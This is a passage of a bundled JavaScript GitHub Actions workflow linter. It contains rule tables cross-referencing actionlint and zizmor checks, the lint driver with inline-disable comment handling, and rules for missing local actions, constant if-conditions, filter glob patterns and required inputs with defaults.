    { check: 'check-shell-names', title: 'Shell name validation at `shell:`', rules: ['shell-name'], kinds: ['shell-name'] },
    { check: 'check-job-step-ids', title: 'Job ID and step ID uniqueness', rules: ['workflow-syntax'], note: 'duplicate keys and step ids, from GitHub\'s parser', kinds: ['id'] },
    { check: 'check-hardcoded-credentials', title: 'Hardcoded credentials', rules: ['hardcoded-secret'], kinds: ['credentials'] },
    { check: 'check-env-var-names', title: 'Environment variable names', rules: ['env-var-name'], kinds: ['env-var'] },
    { check: 'permissions', title: 'Permissions', rules: ['workflow-syntax'], note: 'scopes and values from GitHub\'s workflow schema', kinds: ['permissions'] },
    { check: 'check-reusable-workflows', title: 'Reusable workflows', rules: ['reusable-workflow-call', 'required-input-default'], kinds: ['workflow-call', 'expression', 'events'] },
    { check: 'id-naming-convention', title: 'ID naming convention', rules: ['workflow-syntax'], note: 'job and step id format, from GitHub\'s parser', kinds: ['id'] },
    { check: 'ctx-spfunc-availability', title: 'Availability of contexts and special functions', rules: ['unknown-context', 'unknown-function', 'function-not-allowed'], kinds: ['expression'] },
    { check: 'check-deprecated-workflow-commands', title: 'Check deprecated workflow commands', rules: ['deprecated-commands'], kinds: ['deprecated-commands'] },
    { check: 'if-cond-constant', title: 'Constant conditions at `if:`', rules: ['constant-if', 'unsound-condition'], kinds: ['if-cond'] },
    { check: 'action-metadata-syntax', title: 'Action metadata syntax validation', rules: ['workflow-syntax'], note: 'action.yml is linted on its own (actionlint checks it only through a workflow that uses it)', kinds: ['action'] },
    { check: 'deprecated-inputs-usage', title: 'Deprecated inputs usage', rules: ['popular-action-inputs'], kinds: ['action'] },
    { check: 'yaml-anchors', title: 'YAML anchors', rules: [], planned: ['yaml-anchors'], note: 'an undefined alias is already a workflow-syntax error', kinds: ['syntax-check'] }
].map((c) => ({ ...c, url: `${AL}#${c.check}` }));
/** zizmor's audits, in the order of its docs/audits.md. */
const ZIZMOR_AUDITS = [
    { check: 'adhoc-packages', title: 'Ad-hoc package installs in `run:` steps', rules: [], planned: ['adhoc-packages'] },
    { check: 'anonymous-definition', title: 'Workflows or actions without a name:', rules: ['anonymous-definition'], note: 'opt-in: a style preference (pedantic in zizmor)' },
    { check: 'archived-uses', title: 'Actions from archived repositories', rules: ['archived-uses'], note: 'with the token, through the GitHub API' },
    { check: 'artipacked', title: 'Credentials persisted by actions/checkout', rules: ['artipacked'] },
    { check: 'bot-conditions', title: 'Spoofable bot-actor conditions', rules: ['bot-conditions'] },
    { check: 'cache-poisoning', title: 'Cache poisoning in release workflows', rules: ['cache-poisoning'] },
    { check: 'concurrency-limits', title: 'Workflows without a concurrency limit', rules: ['deploy-without-concurrency'], note: 'deploy jobs only; concurrency elsewhere is a cost choice' },
    { check: 'dangerous-triggers', title: 'pull_request_target and workflow_run', rules: ['dangerous-triggers', 'untrusted-checkout'] },
    { check: 'dependabot-cooldown', title: 'Dependabot updates without a cooldown', rules: ['dependabot-cooldown'] },
    { check: 'dependabot-execution', title: 'Dependabot allowed to execute code', rules: ['dependabot-execution'] },
    { check: 'excessive-permissions', title: 'Overly broad permissions', rules: ['missing-permissions', 'excessive-permissions'], note: 'missing-permissions: the default token and write-all; excessive-permissions: read-all, workflow-level write scopes, and write scopes no step of the job uses (zizmor does not look at the steps)' },
    { check: 'forbidden-uses', title: 'Actions forbidden by configuration', rules: ['forbidden-uses'] },
    { check: 'github-app', title: 'Dangerous uses of GitHub App installation tokens', rules: [], planned: ['github-app'] },
    { check: 'github-env', title: 'Writes of untrusted data to GITHUB_ENV / GITHUB_PATH', rules: ['github-env'] },
    { check: 'hardcoded-container-credentials', title: 'Hardcoded container registry credentials', rules: ['hardcoded-secret'] },
    { check: 'impostor-commit', title: 'Commits from a fork network posing as the action\'s', rules: ['impostor-commit'], note: 'with the token, through the GitHub API' },
    { check: 'insecure-commands', title: 'ACTIONS_ALLOW_UNSECURE_COMMANDS', rules: ['insecure-commands'] },
    { check: 'insecure-url-scheme', title: 'http:// and other insecure URLs', rules: [], planned: ['insecure-url-scheme'] },
    { check: 'known-vulnerable-actions', title: 'Actions with published advisories', rules: ['known-vulnerable-actions'], note: 'with the token, GitHub\'s advisory database through the API' },
    { check: 'misfeature', title: 'GitHub Actions misfeatures (e.g. `shell: cmd`, pip --extra-index-url)', rules: ['misfeature'] },
    { check: 'obfuscation', title: 'Obfuscated uses: and expressions', rules: ['obfuscation'] },
    { check: 'overprovisioned-secrets', title: 'The whole secrets context (toJSON(secrets))', rules: ['overprovisioned-secrets'] },
    { check: 'ref-confusion', title: 'Refs that are both a tag and a branch', rules: ['ref-confusion'], note: 'with the token, through the GitHub API' },
    { check: 'ref-version-mismatch', title: 'Version comments that do not match the pinned commit', rules: ['ref-version-mismatch'], note: 'with the token, through the GitHub API' },
    { check: 'secrets-inherit', title: '`secrets: inherit` in reusable workflow calls', rules: ['secrets-inherit'] },
    { check: 'secrets-outside-env', title: 'Secrets used outside a deployment environment', rules: [], planned: ['secrets-outside-env'] },
    { check: 'self-hosted-runner', title: 'Self-hosted runners', rules: ['self-hosted-runner'] },
    { check: 'self-repository', title: 'Actions of this repository used by remote ref', rules: [], planned: ['self-repository'] },
    { check: 'stale-action-refs', title: 'Pinned commits that no tag points at', rules: ['stale-action-refs'], note: 'with the token, through the GitHub API' },
    { check: 'superfluous-actions', title: 'Actions that duplicate what the runner already does', rules: ['superfluous-actions'] },
    { check: 'template-injection', title: 'Expressions expanded into scripts', rules: ['untrusted-input-in-script'] },
    { check: 'typosquat-uses', title: 'Typosquatted action names', rules: [], planned: ['typosquat-uses'] },
    { check: 'undocumented-permissions', title: 'Permissions without an explaining comment', rules: ['undocumented-permissions'], note: 'opt-in (pedantic in zizmor)' },
    { check: 'unpinned-images', title: 'Container images not pinned by digest', rules: ['mutable-image', 'unpinned-action'], note: 'mutable-image for job/service containers and `docker://` steps by tag; unpinned-action for `docker://` not by digest' },
    { check: 'unpinned-tools', title: 'Actions that install an unpinned external tool', rules: [], planned: ['unpinned-tools'] },
    { check: 'unpinned-uses', title: 'Actions not pinned to a commit', rules: ['unpinned-action'] },
    { check: 'unredacted-secrets', title: 'Secrets parsed with fromJSON, so not redacted', rules: ['unredacted-secrets'] },
    { check: 'unsound-condition', title: '`if:` conditions that are always true', rules: ['unsound-condition'] },
    { check: 'unsound-contains', title: 'contains() on a string, bypassable', rules: ['unsound-contains'] },
    { check: 'unsound-ternary', title: '`a && b || c` where b can be falsy', rules: [], planned: ['unsound-ternary'] },
    { check: 'use-trusted-publishing', title: 'Package publishing with a long-lived token', rules: ['use-trusted-publishing'] }
].map((c) => ({ ...c, url: `${ZZ}#${c.check}` }));
/** Names of the rules (existing or planned) that report faults of an actionlint finding's `kind`. */
function rulesForActionlintKind(kind) {
    return new Set(ACTIONLINT_CHECKS.filter((c) => c.kinds?.includes(kind)).flatMap((c) => [...c.rules, ...(c.planned ?? [])]));
}
/** A markdown table of the peer checks: check → rules, planned, or why not. */
function peersTable(checks, anchorOf) {
    const cell = (s) => s.replace(/\|/g, '\\|');
    const link = (name) => {
        const anchor = anchorOf(name);
        return anchor ? `[\`${name}\`](#${anchor})` : `\`${name}\``;
    };
    return [
        '| check | ours | note |',
        '| --- | --- | --- |',
        ...checks.map((c) => {
            const ours = [...c.rules.map(link), ...(c.planned ?? []).map((p) => `planned: \`${p}\``)].join(', ') || '—';
            return `| [${cell(c.title)}](${c.url}) | ${ours} | ${cell(c.note ?? '')} |`;
        })
    ];
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/lint.js
/**
 * One validation run (internal to workflows-validation): parsed files in, findings out. Loads the
 * local actions and reusable workflows the files refer to, walks every file with each rule's hooks
 * (the visitor), then applies the config: disabled rules, changed levels, and inline
 * `# phase-gates-disable PGxxx` comments.
 */





/** The path a local `uses:` names, relative to the workspace; undefined for a remote one. */
function localUsesPath(uses) {
    if (!isLocalUses(uses))
        return undefined;
    return external_node_path_.posix.normalize(`./${uses.trim().slice(2)}`.replace(/\/+$/, ''));
}
/**
 * Longest message of a finding: a parser message may quote a value of any length (GitHub's own
 * template reader cuts its messages at 500 characters).
 */
const MAX_MESSAGE_CHARS = 1000;
/** Most files loaded for local references in one run (a bound, not a limit anyone should meet). */
const MAX_LOCAL_FILES = 500;
class LocalFiles {
    workspace;
    models = new Map();
    constructor(workspace, files) {
        this.workspace = workspace;
        for (const f of files)
            if (f.model)
                this.models.set(f.source.path, f.model);
    }
    /** Candidate files of a local `uses:`: the workflow itself, or a directory's action.yml. */
    candidates(rel) {
        return /\.ya?ml$/.test(rel) ? [rel] : [`${rel}/action.yml`, `${rel}/action.yaml`];
    }
    /** Loads every local file the models refer to, transitively (composite actions using others). */
    async preload() {
        const queue = [...this.models.values()];
        while (queue.length && this.models.size < MAX_LOCAL_FILES) {
            const model = queue.shift();
            for (const uses of usesOf(model)) {
                const rel = localUsesPath(uses);
                if (!rel)
                    continue;
                for (const candidate of this.candidates(rel)) {
                    if (this.models.has(candidate))
                        break;
                    const abs = this.inside(candidate);
                    if (!abs || !(0,external_node_fs_.existsSync)(abs))
                        continue;
                    const parsed = await loadFile(abs, candidate);
                    this.models.set(candidate, parsed.model);
                    if (parsed.model)
                        queue.push(parsed.model);
                    break;
                }
            }
        }
    }
    /** The absolute path when it stays inside the workspace (links followed), else undefined. */
    inside(rel) {
        const root = (0,external_node_fs_.realpathSync)(this.workspace);
        const abs = external_node_path_.resolve(root, rel);
        try {
            const real = (0,external_node_fs_.realpathSync)(abs);
            const r = external_node_path_.relative(root, real);
            return r.startsWith('..') || external_node_path_.isAbsolute(r) ? undefined : real;
        }
        catch {
            return undefined;
        }
    }
    exists(uses) {
        const rel = localUsesPath(uses);
        if (!rel)
            return undefined;
        return this.candidates(rel).some((c) => this.models.has(c) || (this.inside(c) !== undefined && (0,external_node_fs_.existsSync)(this.inside(c))));
    }
    get(uses) {
        const rel = localUsesPath(uses);
        if (!rel)
            return undefined;
        for (const candidate of this.candidates(rel))
            if (this.models.has(candidate))
                return this.models.get(candidate);
        return undefined;
    }
}
function* usesOf(model) {
    if (model.kind === 'action') {
        for (const s of model.steps)
            if (s.uses)
                yield s.uses.value;
        return;
    }
    for (const job of model.jobs) {
        if (job.uses)
            yield job.uses.value;
        for (const s of job.steps)
            if (s.uses)
                yield s.uses.value;
    }
}
/** zizmor's audit names → the names of our rules that find the same (peers.ts). */
let zizmorNames;
/**
 * `# zizmor: ignore[audit, …]` on a line (text may follow, as zizmor allows): the names of our
 * rules that port those audits, silenced on that line, so a repository's existing zizmor
 * suppressions hold here too (pydantic, uv and pnpm have dozens, most with a written reason).
 */
function zizmorIgnores(line) {
    const m = /#\s*zizmor:\s*ignore\[([^\]]*)\]/.exec(line);
    if (!m)
        return [];
    zizmorNames ??= new Map(ZIZMOR_AUDITS.map((a) => [a.check, a.rules]));
    return m[1].split(',').flatMap((audit) => zizmorNames?.get(audit.trim()) ?? []);
}
/**
 * `# phase-gates-disable PG101, PG112` on a line: the ids it silences there (`*` for all); and
 * `# zizmor: ignore[…]`, for the rules that port those audits.
 */
function inlineDisables(text) {
    const map = new Map();
    if (!text.includes('phase-gates-disable') && !text.includes('zizmor:'))
        return map;
    const lines = text.split('\n');
    lines.forEach((line, i) => {
        const zizmor = line.includes('zizmor:') ? zizmorIgnores(line) : [];
        if (zizmor.length)
            map.set(i + 1, new Set([...(map.get(i + 1) ?? []), ...zizmor]));
        const m = /#\s*phase-gates-disable(?:\s+([\w\s,-]+))?\s*$/.exec(line);
        if (!m)
            return;
        const ids = new Set((m[1] ?? '*').split(/[\s,]+/).filter(Boolean));
        if (ids.size === 0)
            ids.add('*');
        const target = i + 1;
        map.set(target, new Set([...(map.get(target) ?? []), ...ids]));
        // A comment alone on its line covers the next line, as eslint-disable-next-line does.
        if (/^\s*#/.test(line))
            map.set(target + 1, ids);
    });
    return map;
}
/** Runs every rule over the parsed files; findings sorted by file, line, column and rule. */
async function lint(files, options) {
    const local = new LocalFiles(options.workspace, files);
    await local.preload();
    const project = { files, local: (uses) => local.get(uses), exists: (uses) => local.exists(uses) };
    const settings = options.settings ?? { allowActions: [], allowOwners: [] };
    const findings = [];
    const active = [];
    for (const rule of options.rules) {
        const setting = options.ruleSettings?.get(rule.id);
        if (setting === 'off' || (rule.optIn && setting === undefined))
            continue;
        const context = {
            project,
            settings,
            requiredChecks: options.requiredChecks,
            github: options.github,
            report(file, node, message, own) {
                const level = setting ?? own ?? rule.level;
                const text = message.length > MAX_MESSAGE_CHARS ? `${message.slice(0, MAX_MESSAGE_CHARS)}…` : message;
                findings.push({ ruleId: rule.id, ruleName: rule.name, level, message: text, file: file.path, line: node.at.line, column: node.at.column });
            }
        };
        active.push({ rule, hooks: rule.create(context) });
    }
    for (const { hooks } of active)
        await hooks.prepare?.();
    for (const file of files) {
        for (const { hooks } of active)
            hooks.file?.(file);
        const model = file.model;
        if (!model)
            continue;
        if (model.kind === 'workflow') {
            for (const { hooks } of active)
                hooks.workflowPre?.(model);
            for (const job of model.jobs) {
                for (const { hooks } of active)
                    hooks.jobPre?.(job, model);
                for (const step of job.steps)
                    for (const { hooks } of active)
                        hooks.step?.(step, job, model);
                for (const { hooks } of active)
                    hooks.jobPost?.(job, model);
            }
            for (const { hooks } of active)
                hooks.workflowPost?.(model);
        }
        else {
            for (const { hooks } of active)
                hooks.actionPre?.(model);
            for (const step of model.steps)
                for (const { hooks } of active)
                    hooks.step?.(step, model, model);
            for (const { hooks } of active)
                hooks.actionPost?.(model);
        }
    }
    const dependabot = await dependabotFiles(files, options.workspace);
    for (const d of dependabot)
        if (d.dependabot)
            for (const { hooks } of active)
                hooks.dependabot?.(d.dependabot);
    for (const { hooks } of active)
        await hooks.finish?.();
    const disables = new Map([...files, ...dependabot].map((f) => [f.source.path, inlineDisables(f.source.text)]));
    const kept = findings.filter((f) => {
        const ids = disables.get(f.file)?.get(f.line);
        return !ids || !(ids.has('*') || ids.has(f.ruleId) || ids.has(f.ruleName));
    });
    return sortFindings(dedupe(kept));
}
/**
 * Dependabot configurations: those among the files, else `.github/dependabot.yml` (or `.yaml`) of
 * the workspace when there is one (read for its rules only; its reading problems are not reported).
 */
async function dependabotFiles(files, workspace) {
    const given = files.filter((f) => f.dependabot);
    if (given.length)
        return given;
    for (const name of ['.github/dependabot.yml', '.github/dependabot.yaml']) {
        const abs = external_node_path_.join(workspace, name);
        if (!(0,external_node_fs_.existsSync)(abs))
            continue;
        // A link out of the workspace is not the repository's configuration.
        const root = (0,external_node_fs_.realpathSync)(workspace);
        const inside = external_node_path_.relative(root, (0,external_node_fs_.realpathSync)(abs));
        return inside.startsWith('..') || external_node_path_.isAbsolute(inside) ? [] : [await loadFile(abs, name)];
    }
    return [];
}
function dedupe(findings) {
    const seen = new Set();
    return findings.filter((f) => {
        const key = `${f.file}\0${f.line}\0${f.column}\0${f.ruleId}\0${f.message}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
/** Sorts by file, line, column, then rule id, as a compiler prints. */
function sortFindings(findings) {
    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0)));
}
/** `file:line:col: level [id] message`, the compiler-like line of the command line and fixtures. */
function formatFinding(f) {
    return `${f.file}:${f.line}:${f.column}: ${f.level} [${f.ruleId}] ${f.message}`;
}
/**
 * A finding in actionlint's form, `file:line:col: message [PGxxx]`, which its problem matcher,
 * reviewdog (`-efm="%f:%l:%c: %m"`) and editors read; a warning or note says so at the start of
 * the message (actionlint's findings are all errors).
 */
function formatActionlint(f) {
    const level = f.level === 'error' ? '' : `${f.level}: `;
    return `${f.file}:${f.line}:${f.column}: ${level}${f.message} [${f.ruleId}]`;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/missing-local-file.js




/**
 * Whether a step before `step` checks out another repository, or into a directory: the local action
 * may come from that checkout, so its absence from this repository proves nothing.
 */
function checkedOutBefore(owner, step) {
    for (const s of owner.steps) {
        if (s.index >= step.index)
            break;
        if (!s.uses || isLocalUses(s.uses.value))
            continue;
        if (!/^actions\/checkout@/i.test(s.uses.value)) {
            // Another action (a download, a custom checkout) may write the directory too; only a run: step or a known action is ruled out.
            if (!/^actions\/(setup-|cache|upload-|github-script)/i.test(s.uses.value))
                return true;
            continue;
        }
        const withToken = child(s.token, 'with');
        const repository = child(withToken, 'repository');
        const path = child(withToken, 'path');
        if ((repository && !((0,dist/* isString */.Kg)(repository) && repository.value === '${{ github.repository }}')) || path)
            return true;
    }
    return false;
}
const missing_local_file_rule = {
    id: 'PG142',
    name: 'missing-local-file',
    level: 'error',
    description: 'A `uses: ./path` whose action.yml (or action.yaml) is not in the repository, or a `uses: ./.github/workflows/x.yml` whose file is missing.',
    help: "A local action is read from the job's workspace when the step starts, so a path without action.yml or action.yaml fails the step (\"Can't find 'action.yml'\"); forgetting actions/checkout before it gives the same error. A local reusable workflow is read from the repository at the caller's commit: when it is missing, GitHub refuses the whole workflow. A local action after a step that checks out another repository or into a directory (or runs an action that may write files) is not reported, since that step may create it.",
    create(context) {
        const exists = (uses) => context.project.exists?.(uses) ?? true;
        return {
            jobPre(job, workflow) {
                const uses = job.uses;
                if (!uses || !isLocalUses(uses.value) || uses.value.includes('${{') || !/\.ya?ml$/.test(uses.value))
                    return;
                if (!exists(uses.value))
                    context.report(workflow.file, uses, `reusable workflow "${uses.value}" does not exist in the repository: GitHub refuses the workflow`);
            },
            step(step, owner, file) {
                const uses = step.uses;
                if (!uses || !isLocalUses(uses.value) || uses.value.includes('${{') || exists(uses.value))
                    return;
                // `$/` is read from the repository at the workflow's commit, whatever the job checked out.
                if (uses.value.startsWith('./') && checkedOutBefore(owner, step))
                    return;
                const rel = localUsesPath(uses.value);
                context.report(file.file, uses, `local action "${uses.value}" has no action.yml or action.yaml in the repository (${rel}/action.yml): the step fails`);
            }
        };
    }
};
/* harmony default export */ const missing_local_file = (missing_local_file_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/constant-if.js
/** PG143 constant-if: an `if:` whose value never depends on the run (text around `${{ }}` is PG220 unsound-condition's). */




/** Functions whose result depends on the run: the status functions and hashFiles. */
const RUN_FUNCTIONS = new Set(['success', 'failure', 'always', 'cancelled', 'hashfiles']);
/** Whether an expression refers to no context and calls no run-dependent function. */
function isConstant(e) {
    let constant = true;
    const visit = (x, depth) => {
        if (!constant || depth > 200 || !x || typeof x !== 'object')
            return;
        if (x instanceof ast/* ContextAccess */.QC) {
            constant = false;
            return;
        }
        if (x instanceof ast/* FunctionCall */.R6 && RUN_FUNCTIONS.has(x.functionName.lexeme.toLowerCase())) {
            constant = false;
            return;
        }
        for (const v of Object.values(x)) {
            if (Array.isArray(v))
                v.forEach((i) => visit(i, depth + 1));
            else if (v && typeof v === 'object' && !('lexeme' in v))
                visit(v, depth + 1);
        }
    };
    visit(e, 0);
    return constant;
}
const parse = parseExpression;
/** The `if:` as written (inside its quotes), or undefined when it is not a scalar. */
function written(token) {
    if ((0,dist/* isString */.Kg)(token))
        return token.value;
    if (!(0,dist/* isBasicExpression */.hR)(token))
        return undefined;
    const source = token.source;
    if (source === undefined)
        return `\${{ ${token.expression} }}`;
    // The source keeps a quoted scalar's quotes and a block scalar's indentation.
    if (/^'[^]*'$/.test(source))
        return source.slice(1, -1).replace(/''/g, "'");
    if (/^"[^]*"$/.test(source))
        return source.slice(1, -1);
    return source.includes('\n') ? source.replace(/^[ \t]+/gm, '') : source;
}
const constant_if_rule = {
    id: 'PG143',
    name: 'constant-if',
    level: 'warning',
    description: 'A constant condition such as `if: false` or `if: ${{ true }}` (a condition always true by text around its `${{ }}` is PG220 unsound-condition).',
    help: "A condition that refers to no context and no status function (`if: false`, `if: ${{ true }}`) is constant: remove the `if:` or the job or step it guards.",
    create(context) {
        const check = (file, owner, at) => {
            const token = child(owner.token, 'if');
            if (!token || !at)
                return;
            // The value's first character, its quote included (an expression's own position is after the quote).
            if (token.range) {
                const { line, column } = token.range.start;
                const before = tokens_lineOf(file, line)[column - 2];
                at = { at: { line, column: before === "'" || before === '"' ? column - 1 : column } };
            }
            const text = written(token);
            if (text === undefined)
                return;
            const start = text.indexOf('${{');
            const end = text.lastIndexOf('}}');
            if (start >= 0 && end > start) {
                // Text around ${{ }} makes the condition always true: PG220 unsound-condition reports that.
                if (start > 0 || end + 2 < text.length || text.indexOf('${{', start + 3) >= 0)
                    return;
            }
            const expression = (start >= 0 && end > start ? text.slice(start + 3, end) : text).trim();
            const tree = parse(expression);
            if (tree && isConstant(tree))
                context.report(file, at, `condition "${expression}" is constant: remove the if: (or the job or step it guards)`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job, job.if);
            },
            step(step, _owner, file) {
                check(file.file, step, step.if);
            }
        };
    }
};
/* harmony default export */ const constant_if = (constant_if_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/glob.js
/**
 * GitHub's filter patterns (`branches:`, `tags:`, `paths:` of a trigger), checked as actionlint's
 * glob.go does (rhysd/actionlint at 011a6d1): each problem with its 1-based column in the pattern
 * (0 when it cannot be placed).
 */
const EOF = '';
class Validator {
    pat;
    isRef;
    problems = [];
    i = 0;
    prec = false;
    constructor(pat, isRef) {
        this.pat = pat;
        this.isRef = isRef;
    }
    next() {
        return this.i < this.pat.length ? this.pat[this.i++] : EOF;
    }
    peek() {
        return this.i < this.pat.length ? this.pat[this.i] : EOF;
    }
    error(message) {
        this.problems.push({ message, column: this.pat.slice(0, this.i).includes('\n') ? 0 : this.i });
    }
    unexpected(char, what, why) {
        const unexpected = char === EOF ? 'unexpected EOF' : `unexpected character ${JSON.stringify(char)}`;
        this.error(`invalid glob pattern: ${unexpected}${what ? ` while checking ${what}` : ''}; ${why}`);
    }
    invalidRefChar(c, why) {
        this.error(`character ${c === EOF ? 'EOF' : JSON.stringify(c)} is invalid in branch and tag names: ${why} (see git check-ref-format; regular expressions are not supported)`);
    }
    step() {
        let c = this.next();
        let prec = true;
        switch (c) {
            case '\\': {
                const p = this.peek();
                if (p === '[' || p === '?' || p === '*') {
                    c = this.next();
                    if (this.isRef)
                        this.invalidRefChar(this.peek(), 'a ref name cannot contain spaces, ~, ^, :, [, ?, *');
                }
                else if (p === '+' || p === '\\' || p === '!')
                    c = this.next();
                else if (this.isRef) {
                    this.invalidRefChar('\\', 'only the special characters [, ?, +, *, \\ and ! can be escaped with \\');
                    c = this.next();
                }
                break;
            }
            case '?':
            case '+':
                if (!this.prec)
                    this.unexpected(c, `special character ${c}`, 'the preceding character must not be a special character');
                prec = false;
                break;
            case '*':
                prec = false;
                break;
            case '[': {
                if (this.peek() === ']') {
                    c = this.next();
                    this.unexpected(']', 'content of character match []', 'a character match must not be empty');
                    break;
                }
                let chars = 0;
                for (;;) {
                    c = this.next();
                    if (c === ']')
                        break;
                    if (c === EOF) {
                        this.unexpected(c, 'end of character match []', 'missing ]');
                        return false;
                    }
                    if (this.peek() !== '-') {
                        chars++;
                        continue;
                    }
                    chars += 2;
                    const s = c;
                    c = this.next(); // -
                    const p = this.peek();
                    if (p === ']') {
                        c = this.next();
                        this.unexpected(c, 'character range in []', 'the end of the range is missing');
                        break;
                    }
                    if (p !== EOF) {
                        c = this.next();
                        if (s > c)
                            this.unexpected(c, 'character range in []', `the start of the range ${JSON.stringify(s)} is after its end ${JSON.stringify(c)}`);
                    }
                }
                if (chars === 1)
                    this.unexpected(c, 'character match []', 'a character match of one character is useless: write x instead of [x]');
                break;
            }
            case '\r':
                if (this.peek() === '\n')
                    c = this.next();
                this.unexpected(c, '', 'a pattern cannot contain a newline');
                break;
            case '\n':
                this.unexpected('\n', '', 'a pattern cannot contain a newline');
                break;
            case ' ':
            case '\t':
            case '~':
            case '^':
            case ':':
                if (this.isRef)
                    this.invalidRefChar(c, 'a ref name cannot contain spaces, ~, ^, :, [, ?, *');
                break;
        }
        this.prec = prec;
        if (this.peek() === EOF) {
            if (this.isRef && (c === '/' || c === '.'))
                this.invalidRefChar(c, 'a ref name must not end with / or .');
            return false;
        }
        return true;
    }
    run() {
        if (this.pat === '') {
            this.error('a glob pattern cannot be empty');
            return this.problems;
        }
        const first = this.peek();
        if (first === '/' && this.isRef) {
            this.next();
            this.invalidRefChar('/', 'a ref name must not start with /');
            this.prec = true;
        }
        else if (first === '!') {
            this.next();
            if (this.peek() === EOF) {
                this.unexpected('!', '! at the first character (a negative pattern)', 'at least one character must follow !');
                return this.problems;
            }
            this.prec = false;
        }
        // Each step eats at least one character, so this ends within the pattern's length.
        while (this.step())
            ;
        return this.problems;
    }
}
/** Problems of a `branches:` or `tags:` pattern (a Git ref name glob). */
function refGlobProblems(pattern) {
    return new Validator(pattern, true).run();
}
/** Problems of a `paths:` pattern. */
function pathGlobProblems(pattern) {
    const p = pattern.trim();
    const problems = [];
    if (p !== pattern)
        problems.push({ message: 'leading and trailing spaces are not allowed in a path pattern', column: 0 });
    const q = p.replace(/^!/, '');
    if (q === '.' || q === '..' || q.startsWith('./') || q.startsWith('../'))
        problems.push({ message: "'.' and '..' are not allowed in a path pattern: paths are relative to the repository root, without ./", column: 0 });
    return problems.length ? problems : new Validator(pattern, false).run();
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/filter-glob.js
/** PG144 filter-glob: a `branches:`, `tags:` or `paths:` filter pattern of a trigger that GitHub cannot match as meant. */



const FILTERS = {
    branches: refGlobProblems,
    'branches-ignore': refGlobProblems,
    tags: refGlobProblems,
    'tags-ignore': refGlobProblems,
    paths: pathGlobProblems,
    'paths-ignore': pathGlobProblems
};
const CHEAT_SHEET = 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#filter-pattern-cheat-sheet';
const filter_glob_rule = {
    id: 'PG144',
    name: 'filter-glob',
    level: 'error',
    description: 'A `branches:`, `tags:` or `paths:` pattern of a trigger with invalid glob syntax, a character no Git ref can contain, a regular expression, spaces around a path, or a `./` path.',
    help: `Filter patterns are globs (\`*\`, \`**\`, \`?\`, \`+\`, \`[]\`, \`!\`), not regular expressions: \`/v\\d+/\` matches no tag, a space or \`:\` can be in no branch name, a path pattern starting with \`./\` or with spaces around it matches nothing, so the workflow silently never runs (or runs for everything). Checked as actionlint's glob rule does; the syntax: ${CHEAT_SHEET}.`,
    create(context) {
        return {
            workflowPre(workflow) {
                for (const [, event] of workflow.on) {
                    if (!(0,dist/* isMapping */.pi)(event.value))
                        continue;
                    for (const [key, check] of Object.entries(FILTERS)) {
                        const list = child(event.value, key);
                        if (!list || !(0,dist/* isSequence */.wZ)(list))
                            continue;
                        for (const item of list) {
                            if (!(0,dist/* isString */.Kg)(item) || !item.range || item.value.includes('${{'))
                                continue;
                            const quoted = item.source !== undefined && /^['"]/.test(item.source) ? 1 : 0;
                            for (const problem of check(item.value)) {
                                const at = { line: item.range.start.line, column: item.range.start.column + quoted + Math.max(problem.column - 1, 0) };
                                context.report(workflow.file, { at }, `${key}: pattern ${JSON.stringify(item.value)}: ${problem.message}`);
                            }
                        }
                    }
                }
            }
        };
    }
};
/* harmony default export */ const filter_glob = (filter_glob_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/required-input-default.js
/** PG116 required-input-default: a `workflow_call` input that is `required: true` and has a `default:` the caller must override. */

const required_input_default_rule = {
    id: 'PG116',
    name: 'required-input-default',
    level: 'error',
    description: 'A `workflow_call` input that is both `required: true` and given a `default:`, which is then never used.',
    help: "A caller must pass every required input of a reusable workflow, so the default of a required input is never used: it only misleads the reader (and actionlint reports it, as check-workflow-call-events). Remove `required: true` to let callers omit the input and get the default, or remove the default. A `workflow_dispatch` input is not reported: there the default pre-fills the form of a required input.",
    create(context) {
        return {
            workflowPre(workflow) {
                for (const [name, entry] of workflow.workflowCall?.inputs ?? []) {
                    if (!(0,dist/* isMapping */.pi)(entry.value))
                        continue;
                    let required = false;
                    let value;
                    for (const pair of entry.value) {
                        const key = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
                        if (key === 'required')
                            required = (0,dist/* isLiteral */.c$)(pair.value) && String(pair.value.toString()).toLowerCase() === 'true';
                        else if (key === 'default')
                            value = pair.value;
                    }
                    if (!required || !value)
                        continue;
                    const text = (0,dist/* isBasicExpression */.hR)(value) ? value.toDisplayString() : String(value.toString());
                    const range = value.range ?? entry.value.range;
                    const at = range ? { line: range.start.line, column: range.start.column } : entry.key.at;
                    context.report(workflow.file, { at }, `input "${name}" of workflow_call is required, so its default value ${JSON.stringify(text)} is never used: a caller must always pass it; remove "required: true" or the default`);
                }
            }
        };
    }
};
/* harmony default export */ const required_input_default = (required_input_default_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/matrix-values.js
/**
 * PG109 matrix-values: duplicate values in a row of `strategy.matrix`, and `exclude:` entries whose
 * key or value matches nothing in the matrix (actionlint's check-matrix-values, rule_matrix.go).
 */



/** Deepest matrix value read (a matrix nests a few levels at most; anchors cannot loop in a token tree). */
const MAX_DEPTH = 32;
/** Most values a message lists. */
const MOST_VALUES = 10;
function posOf(token) {
    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** The text of a one-line token as written in the file (`1.0` stays `1.0`, not the number 1). */
function sourceText(lines, token) {
    const r = token.range;
    if (!r || r.start.line !== r.end.line)
        return undefined;
    return lines[r.start.line - 1]?.slice(r.start.column - 1, r.end.column - 1);
}
function raw(token, lines, depth = 0) {
    if (depth > MAX_DEPTH)
        return undefined;
    const at = posOf(token);
    if ((0,dist/* isMapping */.pi)(token)) {
        const props = new Map();
        for (const pair of token) {
            const key = keyName(pair.key);
